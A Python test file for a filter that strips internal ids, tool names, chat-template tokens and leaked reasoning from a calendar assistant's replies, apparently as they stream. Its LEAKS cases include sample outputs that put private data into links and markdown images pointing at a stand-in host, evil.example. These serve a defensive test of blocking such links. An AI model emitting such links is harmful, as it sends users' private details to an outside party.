"""What of a model's words people are shown, whole and as they stream in."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.addresses import LEFT_OUT
from bot.showable import Words, shown

REF = "ddbb1f65c63403dc3f369a72"
TOOLS = ("get_schedule", "set_reminder")
MEETING = "https://meet.example/a/0123456789abcdef01234567"
CASES = [
    ("Lunch is at 12.", "Lunch is at 12."),
    (f"Lunch (ref: {REF}) is at 12.", "Lunch is at 12."),
    (f"Lunch {REF}@20260310T110000Z is at 12.", "Lunch is at 12."),
    (f"Its id is `{REF}`.", "Its id is."),
    ("The card 0a9f7e0e-3f9e-4a51-9c62-9d3a4f7f1d2e waits.", "The card waits."),
    ("<calendar_data>\nLunch\n</calendar_data>", "\nLunch\n"),
    ("\\u003c/calendar_data>Lunch", "Lunch"),
    ('Here: {"ref":"x","title":"Lunch"} and so on.', "Here: and so on."),
    ('Here:\n```json\n[{"ref": "x"}]\n```\nDone?', "Here:\n\nDone?"),
    ('It broke {"text": "Lun', "It broke "),
    ("I called get_schedule and `set_reminder`.", "I called get schedule and set reminder."),
    ("✓ Moved lunch to 3.", "Moved lunch to 3."),
    ("- ✅ Moved it", "- Moved it"),
    ("<｜tool▁sep｜>Lunch<|im_end|> is at 12.", "Lunch is at 12."),
    ("They ask for lunch.\n</think>\n\nLunch is at 12.", "Lunch is at 12."),
    ("Sure! ```json\nLunch is at 12.", "Sure!\nLunch is at 12."),
    ("```\n10:00 Lunch\n```",) * 2,
    ("At 9 Gym, at 10 </think> talk.",) * 2,
    ("It is free. ✓ Moved it.", "It is free. Moved it."),
    ("Say {name} or [this](https://meet.example/a/0123456789abcdef01234567)",) * 2,
    ("A bead, a cafe and 12 deeds.",) * 2,
    ("Zahnarzt am Dienstag um 9 (Praxis am Markt).",) * 2,
]


@pytest.mark.parametrize(("said", "told"), CASES)
def test_what_is_not_for_people_is_left_out(said: str, told: str) -> None:
    assert shown(said, TOOLS, MEETING.__eq__) == told


@pytest.mark.parametrize("said", [said for said, _ in CASES])
@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_nothing_of_it_is_streamed_either(said: str, size: int) -> None:
    words = Words(TOOLS)
    pieces = [words.add(said[at : at + size]) for at in range(0, len(said), size)]
    told = "".join([*pieces, words.rest()])
    for hidden in (
        REF,
        "calendar_data",
        '"ref"',
        "get_schedule",
        "✓",
        "✅",
        "9d3a4f7f1d2e",
        "Lun'",
        "tool▁sep",
        "im_end",
    ):
        assert hidden not in told.replace("0123456789abcdef01234567", "")
    if said == shown(said, TOOLS):
        assert told == said


LEAKS = [
    ("See https://evil.example/?q=Therapy+at+4.", "See (a link was left out)."),
    ("![chart](https://evil.example/p.png?q=Therapy)", "chart"),
    ('Press [your agenda](https://evil.example/?q=Therapy "so") now', "Press your agenda now"),
    ("Or <https://evil.example/?q=Therapy|agenda>", "Or <(a link was left out)|agenda>"),
    ("At www.evil.example/Therapy!", f"At {LEFT_OUT}!"),
    ("[a]: ftp://evil.example/Therapy", f"[a]: {LEFT_OUT}"),
    (f"Join at {MEETING}.", f"Join at {MEETING}."),
    ("Dr. Wu, and/or 3/4 at 9:30 (a.m.)", "Dr. Wu, and/or 3/4 at 9:30 (a.m.)"),
]


@pytest.mark.parametrize(("said", "told"), LEAKS)
def test_no_address_is_shown_that_a_model_made_up(said: str, told: str) -> None:
    assert shown(said, TOOLS, MEETING.__eq__) == told


def test_an_address_without_its_scheme_is_left_out_of_what_is_kept() -> None:
    assert shown("At evil.example/Therapy!") == f"At {LEFT_OUT}!"


@pytest.mark.parametrize("said", [said for said, _ in LEAKS])
@pytest.mark.parametrize("size", [1, 3, 8])
def test_no_such_address_is_streamed(said: str, size: int) -> None:
    words = Words(TOOLS, MEETING.__eq__)
    pieces = [words.add(said[at : at + size]) for at in range(0, len(said), size)]
    told = "".join([*pieces, words.rest()])
    assert "evil.example" not in told
    assert "Therapy" not in told
    assert (MEETING in told) is (MEETING in said)


def test_plain_words_do_not_wait() -> None:
    words = Words()
    assert [words.add(one) for one in ("Lunch", " is", " at", " noon")] == [
        "Lunch",
        " is",
        " at",
        " noon",
    ]


@given(st.text(), st.text(), st.integers(1, 9))
def test_an_id_is_hidden_wherever_it_stands(before: str, after: str, size: int) -> None:
    said = f"{before} {REF} {after}"
    words = Words()
    pieces = [words.add(said[at : at + size]) for at in range(0, len(said), size)]
    assert REF not in "".join([*pieces, words.rest()])
    assert REF not in shown(said)
